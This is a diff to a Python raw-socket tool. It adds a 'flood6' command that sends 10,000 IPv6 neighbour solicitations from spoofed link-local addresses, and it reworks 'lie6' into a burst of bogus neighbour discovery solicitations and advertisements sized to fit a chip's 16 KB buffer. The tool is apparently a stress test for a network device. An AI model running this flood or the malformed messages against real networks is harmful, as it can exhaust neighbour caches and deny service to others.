@@ -2,7 +2,8 @@
 
 tap NAME MAC         relays frames between a TAP device and stdin/stdout, each after its length (2 octets)
 claim NAME ADDRESS   says twice, as a station with a MAC address of its own, that the address is its
-lie6 NAME ADDRESS    10,000 neighbours ask for the address, and 300 messages of neighbour discovery that are none
+flood6 NAME ADDRESS  10,000 neighbours ask for the address
+lie6 NAME ADDRESS    90 messages of neighbour discovery that are none
 """
 
 import fcntl
@@ -68,25 +69,32 @@ def neighbour6(source, destination, kind, target, options, hops=255):
     return b'\x02\0\0\0\x55\0' + b'\x02\0\0\0\x0b\xad' + struct.pack('>H', 0x86DD) + header + body
 
 
+def flood6(name, ours):
+    packets = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    packets.bind((name, 0))
+    mac = b'\x01\x01\x02\0\0\0'
+    for i in range(10000):
+        packets.send(neighbour6('fe80::dead:%x' % i, ours, 135, ours, mac + struct.pack('>H', i)))
+        if not i % 100:
+            time.sleep(0.005)
+
+
 def lie6(name, ours):
     packets = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     packets.bind((name, 0))
     mac = b'\x01\x01\x02\0\0\0\x0b\xad'
-    for i in range(10000):
-        packets.send(neighbour6('fe80::dead:%x' % i, ours, 135, ours, mac[:6] + struct.pack('>H', i)))
-        if not i % 100:
-            time.sleep(0.005)
-    for i in range(100):
+    # At once they fit into the chip's 16 KB.
+    for i in range(30):
         liar = 'fe80::bad:%x' % i
         packets.send(neighbour6(liar, ours, 135, ours, mac, hops=64))
         packets.send(neighbour6(liar, ours, 136, liar, b'\x02\0' + bytes(6)))
         packets.send(neighbour6(liar, ours, 136, 'ff02::1', b'\x02' + mac[1:]))
-        # The chip has room for 16 KB.
-        time.sleep(0.001)
 
 
 if sys.argv[1] == 'tap':
     tap(sys.argv[2])
+elif sys.argv[1] == 'flood6':
+    flood6(sys.argv[2], sys.argv[3])
 elif sys.argv[1] == 'lie6':
     lie6(sys.argv[2], sys.argv[3])
 else:
